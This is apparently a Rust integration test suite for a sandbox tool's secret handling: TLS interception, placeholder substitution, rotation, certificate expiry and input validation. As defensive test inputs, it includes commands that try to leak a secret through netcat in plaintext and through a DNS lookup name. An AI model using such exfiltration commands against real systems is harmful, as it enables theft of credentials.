//! Secrets end to end through the real CLI (jail sandboxes, root): a TLS
//! server on the host's loopback with its own test CA (handed over with
//! `--tls-upstream-ca`), reached from the guest as host.alcove.internal by
//! the host's curl (its binary and libraries bind-mounted read-only from
//! /usr, run through the host's dynamic loader; the default rootfs has no
//! TLS client). Proves: the upstream sees the value, the guest only the
//! placeholder; records, config and logs never hold the value; a
//! placeholder in plaintext or in a DNS name is blocked and recorded as a
//! secret violation; `--on-secret-violation terminate` ends the sandbox
//! with NetworkPolicy; rotation; an expired upstream certificate is
//! refused; bad input is one line and creates nothing.
//!
//! Traffic stays on this machine: the host's loopback, the jail's own
//! namespace, and a DNS server on 127.0.0.1 started here.

mod cli_support;

use cli_support::Alcove;
use serde_json::Value;
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime};

const DEADLINE: Duration = Duration::from_secs(30);
const VALUE: &str = "sk-test-VALUE-8c1f2e";

/// The host's curl, run inside the guest from the read-only /usr mount.
const CURL: &str =
    "/hostusr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --library-path /hostusr/lib/x86_64-linux-gnu /hostusr/bin/curl";

fn ensure_curl() {
    if Path::new("/usr/bin/curl").exists() {
        return;
    }
    let ok = |args: &[&str]| std::process::Command::new("apt-get").args(args).status().is_ok_and(|s| s.success());
    assert!(ok(&["update", "-qq"]) && ok(&["install", "-y", "-qq", "curl"]), "cannot install curl for the test");
}

#[allow(deprecated)]
fn provider() -> Arc<rustls::crypto::CryptoProvider> {
    Arc::new(rustls::crypto::ring::default_provider())
}

/// A TLS server on 127.0.0.1 for host.alcove.internal with its own CA; it
/// records each request head and answers `ok`.
struct TlsServer {
    port: u16,
    ca_file: PathBuf,
    heads: Arc<Mutex<Vec<String>>>,
}

impl TlsServer {
    fn start(dir: &Path, valid_from: SystemTime, lifetime: Duration) -> TlsServer {
        let ca_key = rcgen::KeyPair::generate().unwrap();
        let mut ca_params = rcgen::CertificateParams::default();
        ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        let ca = ca_params.self_signed(&ca_key).unwrap();
        let key = rcgen::KeyPair::generate().unwrap();
        let mut params = rcgen::CertificateParams::new(vec!["host.alcove.internal".to_string()]).unwrap();
        params.not_before = time::OffsetDateTime::from(valid_from);
        params.not_after = time::OffsetDateTime::from(valid_from + lifetime);
        let cert = params.signed_by(&key, &ca, &ca_key).unwrap();
        let ca_file = dir.join("upstream-ca.pem");
        std::fs::write(&ca_file, ca.pem()).unwrap();
        let config = rustls::ServerConfig::builder_with_provider(provider())
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(
                vec![cert.der().clone()],
                rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
            )
            .unwrap();
        let config = Arc::new(config);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let log = heads.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { continue };
                let (config, log) = (config.clone(), log.clone());
                std::thread::spawn(move || serve_one(stream, config, log));
            }
        });
        TlsServer { port, ca_file, heads }
    }

    fn heads(&self) -> Vec<String> {
        self.heads.lock().unwrap().clone()
    }
}

fn serve_one(stream: std::net::TcpStream, config: Arc<rustls::ServerConfig>, log: Arc<Mutex<Vec<String>>>) {
    let _ = stream.set_read_timeout(Some(DEADLINE));
    let Ok(conn) = rustls::ServerConnection::new(config) else { return };
    let mut tls = rustls::StreamOwned::new(conn, stream);
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        match tls.read(&mut buf) {
            Ok(0) | Err(_) => return,
            Ok(n) => head.extend_from_slice(&buf[..n]),
        }
    }
    log.lock().unwrap().push(String::from_utf8_lossy(&head).into_owned());
    let _ = tls.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n");
    tls.conn.send_close_notify();
    let _ = tls.flush();
}

/// A DNS server on 127.0.0.1 that answers NXDOMAIN to everything and
/// remembers every question.
fn quiet_dns() -> (String, Arc<Mutex<Vec<Vec<u8>>>>) {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let addr = socket.local_addr().unwrap().to_string();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let log = asked.clone();
    std::thread::spawn(move || {
        let mut buf = [0u8; 512];
        while let Ok((n, from)) = socket.recv_from(&mut buf) {
            log.lock().unwrap().push(buf[..n].to_vec());
            if n >= 12 {
                let mut reply = buf[..n].to_vec();
                reply[2] = 0x84 | (buf[2] & 1);
                reply[3] = 0x03;
                let _ = socket.send_to(&reply, from);
            }
        }
    });
    (addr, asked)
}

fn flows(a: &Alcove, name: &str) -> Vec<Value> {
    match serde_json::from_str(&a.ok(&["net", "flows", name, "--json"])).expect("net flows --json is JSON") {
        Value::Array(rows) => rows,
        other => panic!("not an array: {other}"),
    }
}

/// Polls `net flows` until a row matches (written when the flow ends).
fn wait_flow(a: &Alcove, name: &str, pred: impl Fn(&Value) -> bool) -> Value {
    let end = Instant::now() + DEADLINE;
    loop {
        if let Some(row) = flows(a, name).into_iter().find(|r| pred(r)) {
            return row;
        }
        assert!(Instant::now() < end, "no matching flow record: {:?}", flows(a, name));
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn close_of(row: &Value) -> &str {
    row["close"].as_str().unwrap_or_default()
}

/// `create` with a secret bound to host.alcove.internal and the test CA.
fn create(a: &Alcove, name: &str, server: &TlsServer, extra: &[&str]) {
    let port = server.port.to_string();
    let ca = server.ca_file.display().to_string();
    let rootfs = a.rootfs_arg();
    let mut args = vec![
        "create",
        "--rootfs",
        &rootfs,
        "--net",
        "host",
        "-v",
        "/usr:/hostusr:ro",
        "--secret",
        "API_KEY=env:ALCOVE_TEST_SECRET@host.alcove.internal",
        "--tls-upstream-ca",
        &ca,
        "--tls-intercept-port",
        &port,
    ];
    args.extend_from_slice(extra);
    args.push(name);
    a.ok(&args);
}

fn curl(a: &Alcove, name: &str, port: u16, header: &str) -> cli_support::Out {
    let script = format!("{CURL} -sS --max-time 20 -H \"{header}\" https://host.alcove.internal:{port}/v1/models");
    a.run(&["exec", name, "sh", "-c", &script])
}

fn tempdir() -> tempfile::TempDir {
    tempfile::Builder::new().prefix("alcv-sec-").tempdir_in("/tmp").unwrap()
}

#[test]
fn the_upstream_gets_the_value_and_the_guest_only_the_placeholder() {
    ensure_curl();
    let dir = tempdir();
    let server = TlsServer::start(dir.path(), SystemTime::now() - Duration::from_secs(60), Duration::from_secs(3600));
    let a = Alcove::new().with_env("ALCOVE_TEST_SECRET", VALUE);
    create(&a, "keyed", &server, &[]);

    let out = curl(&a, "keyed", server.port, "Authorization: Bearer $API_KEY");
    assert_eq!((out.code, out.stdout.as_str()), (0, "ok\n"), "{out:?}");
    let heads = server.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(heads[0].contains(&format!("authorization: Bearer {VALUE}\r\n")), "{heads:?}");
    assert!(!heads[0].contains("alcoveph"), "the placeholder reached the upstream: {heads:?}");

    // The guest sees the placeholder: env, /proc, files.
    let env = a.ok(&["exec", "keyed", "sh", "-c", "echo $API_KEY; cat /proc/self/environ | tr '\\0' '\\n'"]);
    let placeholder = env.lines().next().unwrap_or_default().to_string();
    assert!(placeholder.starts_with("alcoveph") && placeholder.len() == 40, "{env}");
    assert!(env.contains("SSL_CERT_FILE=/etc/alcove/tls/bundle.pem"), "{env}");
    // The pattern is split so the command line (logged) does not hold the value.
    let (head, tail) = VALUE.split_at(6);
    let find = format!("grep -rl '{head}''{tail}' /etc /tmp /root 2>/dev/null; true");
    let grep = a.run(&["exec", "keyed", "sh", "-c", &find]);
    assert_eq!(grep.stdout, "", "the value is in a guest file: {grep:?}");
    assert!(!env.contains(VALUE), "{env}");
    let ca = a.ok(&["exec", "keyed", "cat", "/etc/alcove/tls/ca.pem"]);
    assert!(ca.starts_with("-----BEGIN CERTIFICATE-----"), "{ca}");

    // Records, configuration and logs never hold it.
    let inspect = a.ok(&["inspect", "keyed"]);
    let inspect_json = a.inspect("keyed").to_string();
    let ps = a.ok(&["ps", "-a", "--json"]);
    let flows_text = a.ok(&["net", "flows", "keyed", "--json"]);
    for (what, text) in
        [("inspect", &inspect), ("inspect --json", &inspect_json), ("ps --json", &ps), ("flows", &flows_text)]
    {
        assert!(!text.contains(VALUE), "{what} shows the value");
    }
    assert!(inspect.contains("secrets API_KEY (host.alcove.internal)"), "{inspect}");
    assert!(inspect_json.contains(&placeholder), "{inspect_json}");
    let sandbox_dir = a.home.join("sandboxes/keyed");
    let config = std::fs::read_to_string(sandbox_dir.join("config.json")).unwrap();
    assert!(!config.contains(VALUE) && config.contains("env:ALCOVE_TEST_SECRET"), "{config}");
    for entry in walk(&a.home) {
        if entry.file_name().is_some_and(|n| n == "secrets.json") {
            use std::os::unix::fs::PermissionsExt;
            assert_eq!(std::fs::metadata(&entry).unwrap().permissions().mode() & 0o777, 0o600);
            continue;
        }
        let bytes = std::fs::read(&entry).unwrap_or_default();
        assert!(
            !bytes.windows(VALUE.len()).any(|w| w == VALUE.as_bytes()),
            "{} holds the value: {}",
            entry.display(),
            String::from_utf8_lossy(&bytes)
        );
    }

    // Rotation: the next request carries the new value.
    a.ok(&["secret", "set", "keyed", "API_KEY=rotated-value-77"]);
    let out = curl(&a, "keyed", server.port, "X-Api-Key: $API_KEY");
    assert_eq!(out.code, 0, "{out:?}");
    let heads = server.heads();
    assert!(heads[1].contains("x-api-key: rotated-value-77\r\n"), "{heads:?}");
    a.run(&["secret", "set", "keyed", "NOPE=x"]).assert_error("no secret named \"NOPE\"");

    // A restart makes a new CA and keeps the rotated value.
    a.ok(&["stop", "keyed"]);
    a.ok(&["start", "keyed"]);
    let ca_after = a.ok(&["exec", "keyed", "cat", "/etc/alcove/tls/ca.pem"]);
    assert_ne!(ca, ca_after, "the CA is made again at each start");
    let out = curl(&a, "keyed", server.port, "X-Api-Key: $API_KEY");
    assert_eq!(out.code, 0, "{out:?}");
    let heads = server.heads();
    assert!(heads[2].contains("x-api-key: rotated-value-77\r\n"), "{heads:?}");
    a.ok(&["rm", "-f", "keyed"]);
}

/// Every file under `dir` (the sandbox's records, config, logs, database).
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else { return files };
    for entry in entries.flatten() {
        let path = entry.path();
        match entry.file_type() {
            Ok(t) if t.is_dir() => files.extend(walk(&path)),
            Ok(t) if t.is_file() => files.push(path),
            _ => {}
        }
    }
    files
}

#[test]
fn placeholders_in_plaintext_or_dns_are_blocked_and_recorded() {
    let dir = tempdir();
    let server = TlsServer::start(dir.path(), SystemTime::now() - Duration::from_secs(60), Duration::from_secs(3600));
    let (dns, asked) = quiet_dns();
    let plain = TcpListener::bind("127.0.0.1:0").unwrap();
    let plain_port = plain.local_addr().unwrap().port();
    let received = Arc::new(Mutex::new(Vec::new()));
    let sink = received.clone();
    std::thread::spawn(move || {
        for stream in plain.incoming() {
            let Ok(mut s) = stream else { continue };
            let mut buf = Vec::new();
            let _ = s.read_to_end(&mut buf);
            sink.lock().unwrap().push(buf);
        }
    });
    let a = Alcove::new().with_env("ALCOVE_TEST_SECRET", VALUE);
    create(&a, "leaky", &server, &["--dns", &dns]);
    let script = format!(
        "printf 'GET /?k=%s HTTP/1.1\\r\\n\\r\\n' \"$API_KEY\" | nc -w 5 host.alcove.internal {plain_port}; echo rc=$?"
    );
    let _ = a.run(&["exec", "leaky", "sh", "-c", &script]);
    let row = wait_flow(&a, "leaky", |r| close_of(r).starts_with("secret_violation"));
    assert_eq!(close_of(&row), "secret_violation: secret API_KEY sent to host.alcove.internal in plaintext", "{row}");
    assert_eq!(row["allowed"], false);
    let got = received.lock().unwrap().concat();
    assert!(!String::from_utf8_lossy(&got).contains("alcoveph"), "the placeholder reached the host");

    let _ = a.run(&["exec", "leaky", "sh", "-c", "nslookup $API_KEY.example.test; true"]);
    let row = wait_flow(&a, "leaky", |r| close_of(r).contains("in a DNS question"));
    assert_eq!(close_of(&row), "secret_violation: secret API_KEY sent to dns in a DNS question", "{row}");
    let questions = asked.lock().unwrap().concat();
    assert!(!String::from_utf8_lossy(&questions).contains("alcoveph"), "the placeholder reached the resolver");
    let table = a.ok(&["net", "flows", "leaky"]);
    assert!(table.lines().any(|l| l.contains(" secret_violation ")), "{table}");
    assert!(!table.contains(VALUE));
    a.ok(&["rm", "-f", "leaky"]);
}

#[test]
fn on_secret_violation_terminate_ends_the_sandbox_as_network_policy() {
    let dir = tempdir();
    let server = TlsServer::start(dir.path(), SystemTime::now() - Duration::from_secs(60), Duration::from_secs(3600));
    let plain = TcpListener::bind("127.0.0.1:0").unwrap();
    let plain_port = plain.local_addr().unwrap().port();
    let a = Alcove::new().with_env("ALCOVE_TEST_SECRET", VALUE);
    create(&a, "strict", &server, &["--on-secret-violation", "terminate"]);
    let script = format!("echo $API_KEY | nc -w 5 host.alcove.internal {plain_port}; sleep 60");
    let _ = a.run(&["exec", "strict", "sh", "-c", &script]);
    let entry = a.wait_status("strict", "Stopped", DEADLINE);
    assert_eq!(entry["last_run"]["reason"], "NetworkPolicy", "{entry}");
    let detail = entry["last_run"]["detail"].as_str().unwrap_or_default().to_string();
    assert!(detail.contains("secret API_KEY") && detail.contains("host.alcove.internal"), "{entry}");
    assert!(!detail.contains(VALUE) && !detail.contains("alcoveph"), "{entry}");
    drop(plain);
    a.ok(&["rm", "strict"]);
}

#[test]
fn an_expired_upstream_certificate_is_refused() {
    ensure_curl();
    let dir = tempdir();
    let long_ago = SystemTime::now() - Duration::from_secs(10 * 24 * 3600);
    let server = TlsServer::start(dir.path(), long_ago, Duration::from_secs(24 * 3600));
    let a = Alcove::new().with_env("ALCOVE_TEST_SECRET", VALUE);
    create(&a, "stale", &server, &[]);
    let out = curl(&a, "stale", server.port, "Authorization: Bearer $API_KEY");
    assert_ne!(out.code, 0, "{out:?}");
    assert!(server.heads().is_empty(), "a request went out: {:?}", server.heads());
    let row = wait_flow(&a, "stale", |r| close_of(r).starts_with("blocked"));
    assert!(close_of(&row).contains("TLS to host.alcove.internal") && close_of(&row).contains("xpired"), "{row}");
    a.ok(&["rm", "-f", "stale"]);
}

#[test]
fn bad_secret_input_is_one_line_and_creates_nothing() {
    let dir = tempdir();
    let not_pem = dir.path().join("not.pem");
    std::fs::write(&not_pem, "hello").unwrap();
    let a = Alcove::new();
    let cases: Vec<(Vec<String>, &str)> = vec![
        (vec!["--secret".into(), "KEY=sk-literal".into()], "--secret KEY: no hosts"),
        (vec!["--secret".into(), "KEY=sk-literal@".into()], "--secret KEY: no hosts"),
        (vec!["--secret".into(), "KEY=sk-literal@not a host".into()], "invalid host pattern \"not a host\""),
        (vec!["--secret".into(), "KEY=env:ALCOVE_TEST_UNSET_XYZ@a.test".into()], "ALCOVE_TEST_UNSET_XYZ is not set"),
        (vec!["--secret".into(), "KEY=file:/nonexistent/key@a.test".into()], "cannot read /nonexistent/key"),
        (
            vec!["--secret".into(), "KEY=x@a.test".into(), "--tls-upstream-ca".into(), not_pem.display().to_string()],
            "no PEM certificate",
        ),
        (vec!["--on-secret-violation".into(), "terminate".into()], "needs a network"),
    ];
    for (extra, needle) in cases {
        let mut args: Vec<String> = vec!["create".into(), "--rootfs".into(), a.rootfs_arg()];
        args.extend(extra);
        args.push("bad".into());
        let out = a.run(&args);
        out.assert_error(needle);
        assert!(!out.stderr.contains("sk-literal"), "the value is in the error: {out:?}");
        assert!(a.ps_entry("bad").is_none(), "a sandbox was recorded for {args:?}");
        assert!(!a.home.join("sandboxes/bad").exists(), "a directory was left for {args:?}");
    }
}
